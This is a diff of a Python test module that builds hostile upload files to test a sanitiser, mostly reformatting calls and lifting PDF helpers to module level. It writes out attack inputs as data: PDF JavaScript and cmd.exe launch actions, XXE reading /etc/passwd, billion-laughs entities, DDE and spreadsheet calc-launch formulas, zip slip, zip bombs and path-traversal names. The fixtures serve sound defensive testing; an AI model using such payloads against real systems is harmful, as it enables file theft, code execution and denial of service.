@@ -79,10 +79,11 @@ def _docx_parts(main: str = _DOCX_MAIN) -> dict[str, bytes | str]:
     return {
         "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         f'content-types"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
-        "_rels/.rels": _rels(f'<Relationship Id="r1" Type="{_REL}/officeDocument" '
-                             'Target="word/document.xml"/>'),
+        "_rels/.rels": _rels(
+            f'<Relationship Id="r1" Type="{_REL}/officeDocument" Target="word/document.xml"/>'
+        ),
         "word/document.xml": "<document><body><p>Kính gửi Ủy ban nhân dân xã</p></body></document>",
-    }  # fmt: skip
+    }
 
 
 def xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
@@ -113,8 +114,9 @@ def _rels(inside: str) -> str:
 
 
 def _external(kind: str, target: str) -> str:
-    return _rels(f'<Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}" '
-                 'TargetMode="External"/>')  # fmt: skip
+    return _rels(
+        f'<Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
+    )
 
 
 def png_chunk(kind: bytes, body: bytes) -> bytes:
@@ -161,8 +163,13 @@ def _bad_photos() -> Iterator[Hostile]:
     yield Hostile("png bomb at the limit", "photo", "a.png", png_bomb(7_071, 7_071), may_clean=True)
     yield Hostile("png claims 4 GB", "photo", "a.png", png_bomb(2**31 - 1, 2**31 - 1))
     yield Hostile("png without width", "photo", "a.png", png_bomb(0, 100))
-    yield Hostile("png chunk longer than the file", "photo", "a.png",
-                  png[:33] + struct.pack(">I", 2**32 - 1) + png[37:], may_clean=True)  # fmt: skip
+    yield Hostile(
+        "png chunk longer than the file",
+        "photo",
+        "a.png",
+        png[:33] + struct.pack(">I", 2**32 - 1) + png[37:],
+        may_clean=True,
+    )
     yield Hostile("png with a wrong checksum", "photo", "a.png", png[:29] + b"\0\0\0\0" + png[33:])
     many = b"".join(png_chunk(b"tEXt", b"k\0" + b"x" * 40) for _ in range(5_000))
     yield Hostile(
@@ -174,23 +181,34 @@ def _bad_photos() -> Iterator[Hostile]:
         "jpeg claims 65535 x 65535", "photo", "a.jpg", _jpeg_claiming(jpeg, 65_535, 65_535)
     )
     yield Hostile("jpeg of no height", "photo", "a.jpg", _jpeg_claiming(jpeg, 640, 0))
-    yield Hostile("jpeg larger than its data", "photo", "a.jpg", _jpeg_claiming(jpeg, 5_000, 5_000),
-                  may_clean=True)  # fmt: skip
+    yield Hostile(
+        "jpeg larger than its data",
+        "photo",
+        "a.jpg",
+        _jpeg_claiming(jpeg, 5_000, 5_000),
+        may_clean=True,
+    )
     yield Hostile(
         "jpeg segment without end", "photo", "a.jpg", b"\xff\xd8\xff\xe0\xff\xff" + b"\0" * 50
     )
     yield Hostile("jpeg of fill bytes", "photo", "a.jpg", b"\xff\xd8" + b"\xff" * 100_000)
-    yield Hostile("jpeg of 10,000 segments", "photo", "a.jpg",
-                  b"\xff\xd8" + b"\xff\xe1\x00\x04ab" * 10_000 + jpeg[2:])  # fmt: skip
+    yield Hostile(
+        "jpeg of 10,000 segments",
+        "photo",
+        "a.jpg",
+        b"\xff\xd8" + b"\xff\xe1\x00\x04ab" * 10_000 + jpeg[2:],
+    )
     yield Hostile("webp claims 16384 x 16384", "photo", "a.webp", _webp_claiming(16_384, 16_384))
     yield Hostile("webp without a picture", "photo", "a.webp", _webp_claiming(640, 480))
     yield Hostile("animated webp of 300 frames", "photo", "a.webp", _animated(), may_clean=True)
     yield Hostile("heic claims 60000 x 60000", "photo", "a.heic", _heic_claiming(60_000, 60_000))
-    yield Hostile("heic larger than its data", "photo", "a.heic", _heic_claiming(6_000, 6_000),
-                  may_clean=True)  # fmt: skip
+    yield Hostile(
+        "heic larger than its data", "photo", "a.heic", _heic_claiming(6_000, 6_000), may_clean=True
+    )
     yield Hostile("heic box of 4 GB", "photo", "a.heic", b"\xff\xff\xff\xff" + HEIC[4:])
-    yield Hostile("heic boxes in a circle", "photo", "a.heic",
-                  HEIC[:28] + b"\0\0\0\x08meta" * 2_000)  # fmt: skip
+    yield Hostile(
+        "heic boxes in a circle", "photo", "a.heic", HEIC[:28] + b"\0\0\0\x08meta" * 2_000
+    )
     yield Hostile("heic without sizes", "photo", "a.heic", HEIC.replace(b"ispe", b"free"))
     yield Hostile("photo of 15 MB and one byte", "photo", "a.jpg", jpeg + b"\0" * 15 * 2**20)
 
@@ -214,8 +232,9 @@ def _bad_notes() -> Iterator[Hostile]:
     yield Hostile(
         "position off the earth", "photo", "a.jpg", photo(exif=exif.tobytes()), may_clean=True
     )
-    yield Hostile("broken colour profile", "photo", "a.jpg", photo(icc_profile=PAYLOAD * 100),
-                  may_clean=True)  # fmt: skip
+    yield Hostile(
+        "broken colour profile", "photo", "a.jpg", photo(icc_profile=PAYLOAD * 100), may_clean=True
+    )
     yield Hostile("comment with html", "photo", "a.jpg", photo(comment=HTML), may_clean=True)
 
 
@@ -251,16 +270,47 @@ def _disguises() -> Iterator[Hostile]:
     yield Hostile("path as name", "document", "../../etc/passwd", b"root:x:0:0")
 
 
-def _bad_pdfs() -> Iterator[Hostile]:
-    def action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
-        def change(document: pikepdf.Pdf) -> None:
-            document.Root.OpenAction = pikepdf.Dictionary({f"/{k}": v for k, v in entries.items()})
+def _on_opening(**entries: object) -> Callable[[pikepdf.Pdf], None]:
+    def change(document: pikepdf.Pdf) -> None:
+        document.Root.OpenAction = pikepdf.Dictionary({f"/{k}": v for k, v in entries.items()})
 
-        return change
+    return change
+
+
+def _embedded(document: pikepdf.Pdf) -> None:
+    document.attachments["a.exe"] = b"MZ"
+
+
+def _form(document: pikepdf.Pdf) -> None:
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("x"))
+
+
+def _hidden(document: pikepdf.Pdf) -> None:
+    page = document.pages[0]
+    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
+
+
+def _circle(document: pikepdf.Pdf) -> None:
+    document.Root.Pages.Kids[0] = document.Root.Pages
+
+
+def _nested(document: pikepdf.Pdf) -> None:
+    deep = pikepdf.Array()
+    for _ in range(200):
+        deep = pikepdf.Array([deep])
+    document.Root.Deep = deep
+
+
+def _bad_pdfs() -> Iterator[Hostile]:
+    action = _on_opening
 
     name = pikepdf.Name
-    yield Hostile("pdf with javascript", "document", "a.pdf",
-                  pdf(action(S=name.JavaScript, JS="app.alert(1)")))  # fmt: skip
+    yield Hostile(
+        "pdf with javascript",
+        "document",
+        "a.pdf",
+        pdf(action(S=name.JavaScript, JS="app.alert(1)")),
+    )
     yield Hostile("pdf that launches", "document", "a.pdf", pdf(action(S=name.Launch, F="cmd.exe")))
     yield Hostile(
         "pdf that submits", "document", "a.pdf", pdf(action(S=name.SubmitForm, F="http://x"))
@@ -269,27 +319,13 @@ def _bad_pdfs() -> Iterator[Hostile]:
         "pdf that opens another", "document", "a.pdf", pdf(action(S=name.GoToR, F="b.pdf"))
     )
 
-    def embedded(document: pikepdf.Pdf) -> None:
-        document.attachments["a.exe"] = b"MZ"
-
-    def form(document: pikepdf.Pdf) -> None:
-        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("x"))
-
-    def hidden(document: pikepdf.Pdf) -> None:
-        page = document.pages[0]
-        page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=name.JavaScript, JS="1"))
-
-    def circle(document: pikepdf.Pdf) -> None:
-        document.Root.Pages.Kids[0] = document.Root.Pages
-
-    def nested(document: pikepdf.Pdf) -> None:
-        deep = pikepdf.Array()
-        for _ in range(200):
-            deep = pikepdf.Array([deep])
-        document.Root.Deep = deep
-
-    for kind, change in (("embedded file", embedded), ("xfa form", form), ("page action", hidden),
-                         ("pages in a circle", circle), ("200 nested arrays", nested)):  # fmt: skip
+    for kind, change in (
+        ("embedded file", _embedded),
+        ("xfa form", _form),
+        ("page action", _hidden),
+        ("pages in a circle", _circle),
+        ("200 nested arrays", _nested),
+    ):
         yield Hostile(f"pdf with {kind}", "document", "a.pdf", pdf(change))
     yield Hostile("pdf of 2,001 pages", "document", "a.pdf", pdf(pages=2_001))
     yield Hostile("pdf of no page", "document", "a.pdf", pdf(pages=0))
@@ -304,47 +340,86 @@ def _bad_pdfs() -> Iterator[Hostile]:
 
 def _bad_office() -> Iterator[Hostile]:
     rels = "word/_rels/document.xml.rels"
-    yield Hostile("docx with outside template", "document", "a.docx",
-                  docx({rels: _external("attachedTemplate", "http://bad.example/t.dotm")}))  # fmt: skip
-    yield Hostile("docx with outside picture", "document", "a.docx",
-                  docx({rels: _external("image", "file:///etc/passwd")}))  # fmt: skip
-    yield Hostile("docx with script link", "document", "a.docx",
-                  docx({rels: _external("hyperlink", "javascript:alert(1)")}))  # fmt: skip
+    yield Hostile(
+        "docx with outside template",
+        "document",
+        "a.docx",
+        docx({rels: _external("attachedTemplate", "http://bad.example/t.dotm")}),
+    )
+    yield Hostile(
+        "docx with outside picture",
+        "document",
+        "a.docx",
+        docx({rels: _external("image", "file:///etc/passwd")}),
+    )
+    yield Hostile(
+        "docx with script link",
+        "document",
+        "a.docx",
+        docx({rels: _external("hyperlink", "javascript:alert(1)")}),
+    )
     yield Hostile("docx with macros", "document", "a.docx", docx({"word/vbaProject.bin": b"x"}))
-    yield Hostile("docm as docx", "document", "a.docx",
-                  docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"))  # fmt: skip
-    yield Hostile("docx with an object", "document", "a.docx",
-                  docx({"word/embeddings/oleObject1.bin": b"x"}))  # fmt: skip
-    yield Hostile("docx with dde field", "document", "a.docx",
-                  docx({"word/document.xml": "<w><instrText>DDEAUTO c:\\cmd.exe</instrText></w>"}))  # fmt: skip
+    yield Hostile(
+        "docm as docx",
+        "document",
+        "a.docx",
+        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
+    )
+    yield Hostile(
+        "docx with an object", "document", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"})
+    )
+    yield Hostile(
+        "docx with dde field",
+        "document",
+        "a.docx",
+        docx({"word/document.xml": "<w><instrText>DDEAUTO c:\\cmd.exe</instrText></w>"}),
+    )
     xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
     yield Hostile(
         "docx with outside entity", "document", "a.docx", docx({"word/document.xml": xxe})
     )
-    laughs = "<!DOCTYPE a [" + "".join(
-        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
-    ) + "]><a>&l9;</a>"  # fmt: skip
+    laughs = (
+        "<!DOCTYPE a ["
+        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
+        + "]><a>&l9;</a>"
+    )
     yield Hostile("docx with a billion laughs", "document", "a.docx", docx({"_rels/.rels": laughs}))
     yield Hostile("docx of broken xml", "document", "a.docx", docx({"_rels/.rels": "<a><b></a>"}))
-    yield Hostile("docx that is utf-16", "document", "a.docx",
-                  docx({"word/document.xml": xxe.encode("utf-16")}))  # fmt: skip
+    yield Hostile(
+        "docx that is utf-16",
+        "document",
+        "a.docx",
+        docx({"word/document.xml": xxe.encode("utf-16")}),
+    )
     yield Hostile("xlsx with macros", "document", "a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}))
     yield Hostile(
         "xlsx with old macro sheet", "document", "a.xlsx", xlsx({"xl/macrosheets/s.xml": "<a/>"})
     )
-    yield Hostile("xlsx with outside book", "document", "a.xlsx",
-                  xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}))  # fmt: skip
+    yield Hostile(
+        "xlsx with outside book",
+        "document",
+        "a.xlsx",
+        xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
+    )
     cell = "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"
     yield Hostile(
         "xlsx that starts a program", "document", "a.xlsx", xlsx({"xl/worksheets/s2.xml": cell})
     )
-    yield Hostile("odt with outside picture", "document", "a.odt",
-                  odt('<draw:image xlink:href="http://bad.example/a.png"/>'))  # fmt: skip
+    yield Hostile(
+        "odt with outside picture",
+        "document",
+        "a.odt",
+        odt('<draw:image xlink:href="http://bad.example/a.png"/>'),
+    )
     yield Hostile(
         "odt with a macro", "document", "a.odt", odt(more={"Basic/Standard/M.xml": "<a/>"})
     )
-    yield Hostile("odt with a listener", "document", "a.odt",
-                  odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'))  # fmt: skip
+    yield Hostile(
+        "odt with a listener",
+        "document",
+        "a.odt",
+        odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
+    )
     yield Hostile(
         "odt with an object", "document", "a.odt", odt(more={"Object 1/content.xml": "<a/>"})
     )
@@ -353,15 +428,24 @@ def _bad_office() -> Iterator[Hostile]:
     yield Hostile(
         "odt with a password", "document", "a.odt", odt(more={"META-INF/manifest.xml": manifest})
     )
-    yield Hostile("presentation", "document", "a.odt",
-                  package({"mimetype": "application/vnd.oasis.opendocument.presentation",
-                           "content.xml": "<a/>"}))  # fmt: skip
+    yield Hostile(
+        "presentation",
+        "document",
+        "a.odt",
+        package(
+            {"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": "<a/>"}
+        ),
+    )
 
 
 def _bad_packages() -> Iterator[Hostile]:
     yield Hostile("zip bomb", "document", "a.docx", docx({"word/media/a.bin": b"\0" * 40_000_000}))
-    yield Hostile("zip of 10,001 parts", "document", "a.docx",
-                  docx({f"word/{n}.xml": "" for n in range(10_001)}))  # fmt: skip
+    yield Hostile(
+        "zip of 10,001 parts",
+        "document",
+        "a.docx",
+        docx({f"word/{n}.xml": "" for n in range(10_001)}),
+    )
     yield Hostile("zip slip", "document", "a.docx", docx({"../../../etc/cron.d/x": "x"}))
     yield Hostile("zip of absolute names", "document", "a.docx", docx({"/etc/passwd": "x"}))
     yield Hostile("zip inside zip", "document", "a.docx", docx({"word/a.zip": package({"a": "b"})}))
